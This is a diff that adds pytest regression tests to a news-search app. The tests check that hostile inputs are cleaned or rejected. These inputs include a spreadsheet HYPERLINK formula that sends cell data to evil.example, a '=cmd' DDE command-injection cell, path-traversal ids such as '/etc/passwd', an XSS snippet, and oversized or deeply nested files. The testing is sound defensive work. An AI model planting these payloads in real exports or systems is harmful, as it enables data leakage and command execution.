@@ -3,11 +3,18 @@ and nothing a file holds reaches a page or the JSON as live markup."""
 
 from __future__ import annotations
 
+import csv
 import importlib.util
+import io
 import json
+import os
 import re
+import subprocess
+import sys
 from html.parser import HTMLParser
+from pathlib import Path
 from urllib.parse import quote
+from xml.etree import ElementTree
 
 import pytest
 
@@ -354,3 +361,140 @@ def test_the_marked_filter_lets_only_mark_through():
     html = str(marked('<mark>ok</mark><script>x</script><img src=x onerror=alert(1)>"q"'))
     assert html.replace("<mark>", "").replace("</mark>", "").count("<") == html.count("&lt;")
     assert "<script" not in html and "<img" not in html and "<mark>ok</mark>" in html
+
+
+# Inputs found by attacking newsindex (issue 18): each is cleaned or skipped with its reason,
+# and no page, feed, export or CLI answer breaks on it.
+
+NEWSINDEX = Path(sys.executable).parent / "newsindex"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+BAD_IDS = ["line\r\nbreak", "/etc/passwd", ".", "..", "x/../y"]
+
+
+def _cli(index_dir: Path, *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
+    """Run the real CLI on an index folder."""
+    env = {**os.environ, "NEWSINDEX_INDEX_DIR": str(index_dir)}
+    return subprocess.run(
+        [str(NEWSINDEX), *args],
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        text=True,
+        stdin=subprocess.DEVNULL,
+        timeout=300,
+    )
+
+
+def _line(**fields: str) -> str:
+    """One dated JSONL line; lone surrogates written as JSON escapes, as an export holds them."""
+    return json.dumps({"date": "2025-01-15", **fields}, ensure_ascii=True) + "\n"
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    """A folder of the inputs that broke builds and pages, rebuilt through the CLI."""
+    root = tmp_path_factory.mktemp("attacked")
+    folder = root / "in"
+    folder.mkdir()
+    body = "Cocoa prices rose in Abidjan as exporters waited for the rains."
+    lines = [
+        _line(title="Lone surrogate \ud800 cocoa", body=body),
+        _line(title="Non-character \uffff cocoa", source="Wire\udc80", body=body),
+        _line(title=FORMULA, source="=cmd|' /C calc'!A0", byline="@Ana Ruiz", body=body),
+    ]
+    lines += [_line(id=bad, title=f"Odd id {n} cocoa", body=body) for n, bad in enumerate(BAD_IDS)]
+    (folder / "feed.jsonl").write_text("".join(lines))
+    (folder / "note.txt").write_text("Harbour note\n\nThe harbour reopened on Monday.\n")
+    (folder / "metadata.csv").write_bytes(b"\xff\xfeA")  # UTF-16 with a bad byte
+    attributes = " ".join(f'data-a{n}="{n}"' for n in range(20_000))
+    (folder / "page.html").write_text(f"<html><body {attributes}><p>{body}</p></body></html>")
+    deep = folder
+    for _ in range(1000):  # Path.mkdir(parents=True) itself recurses too deep for this
+        deep = deep / "d"
+        os.mkdir(deep)
+    (deep / "bottom.txt").write_text("Bottom\n\nAt the bottom of the folders.\n")
+    try:
+        yield root, _cli(root / "index", "rebuild", "in", cwd=root)
+    finally:
+        while deep != folder:  # shutil.rmtree (pytest's clean-up) recurses too deep for this
+            for child in deep.iterdir():
+                child.unlink()
+            deep.rmdir()
+            deep = deep.parent
+
+
+def test_the_attacked_folder_is_indexed_with_every_problem_reported(attacked):
+    root, done = attacked
+    assert done.returncode == 0, done.stderr[-3000:]
+    assert "Traceback" not in done.stderr
+    out = done.stdout
+    assert "in/metadata.csv: metadata.csv ignored: not valid UTF-16" in out
+    assert "in/page.html: HTML tag with 20,000 attributes (more than 1,000)" in out
+    assert "folder nested more than 256 levels deep: not read" in out
+    assert "in/feed.jsonl:1: 1 invalid character" in out
+    assert "in/feed.jsonl:2: 2 invalid characters" in out  # U+FFFF and the lone surrogate
+    for n, bad in enumerate(BAD_IDS, start=4):
+        shown = bad.encode("unicode_escape").decode("ascii")
+        assert f"in/feed.jsonl:{n}: supplied id {shown!r}" in out, out
+    assert "Rebuilt: 9 articles indexed" in out  # the 8 JSONL lines and note.txt
+
+
+@pytest.fixture
+def attacked_client(attacked):
+    """A client of the app on the attacked folder's index."""
+    root, done = attacked
+    assert done.returncode == 0, done.stderr[-3000:]
+    app = create_app({"TESTING": True, "INDEX_DIR": root / "index"})
+    yield app.test_client()
+    app.extensions["newsindex"].close()
+
+
+def test_bad_characters_break_no_page_feed_or_cli_answer(attacked, attacked_client):
+    client = attacked_client
+    for page in ["/", "/?q=cocoa", "/?q=surrogate", "/api/search?q=cocoa", "/feed.atom"]:
+        response = client.get(page)
+        assert response.status_code == 200, page
+    hits = client.get("/api/search?q=cocoa&per_page=50").get_json()["hits"]
+    titles = {h["title"] for h in hits}
+    assert {"Lone surrogate \ufffd cocoa", "Non-character \ufffd cocoa"} <= titles
+    assert "Wire\ufffd" in {h["source"] for h in hits}
+    for hit in hits:
+        link = f"/article/{quote(hit['id'], safe='/')}"
+        assert client.get(link).status_code == 200, link
+        assert client.get(f"/api/articles/{quote(hit['id'], safe='/')}").status_code == 200
+    for query in ("", "?q=cocoa"):
+        feed = client.get(f"/feed.atom{query}").get_data()
+        ElementTree.fromstring(feed)  # well-formed XML: raises otherwise
+        assert "Non-character \ufffd cocoa".encode() in feed
+    root, _done = attacked
+    done = _cli(root / "index", "search", "--json", "surrogate", cwd=root)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert json.loads(done.stdout)["hits"][0]["title"] == "Lone surrogate \ufffd cocoa"
+
+
+def test_bad_ids_are_replaced_and_their_articles_open(attacked_client):
+    hits = attacked_client.get("/api/search?q=odd&per_page=50").get_json()["hits"]
+    assert len(hits) == len(BAD_IDS)
+    for hit in hits:
+        assert hit["id"] not in BAD_IDS and re.fullmatch(r"[0-9a-f]{16}", hit["id"])
+        assert attacked_client.get(f"/article/{hit['id']}").status_code == 200
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(attacked_client):
+    rows = list(csv.reader(io.StringIO(attacked_client.get("/api/search.csv?q=hyperlink").text)))
+    header, row = rows[0], rows[1]
+    cell = dict(zip(header, row, strict=True))
+    assert cell["title"] == "'" + FORMULA
+    assert cell["source"] == "'=cmd|' /C calc'!A0"
+    assert cell["byline"] == "'@Ana Ruiz"
+    chart = attacked_client.get("/api/chart.csv?q=cocoa&chart=source").text
+    header = next(csv.reader(io.StringIO(chart)))
+    assert "'=cmd|' /C calc'!A0" in header and "=cmd|' /C calc'!A0" not in header
+
+
+@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_every_formula_start_is_prefixed(value):
+    from webapp.export import safe_cell
+
+    assert safe_cell(value) == "'" + value
+    assert safe_cell("plain =") == "plain =" and safe_cell(-1) == -1
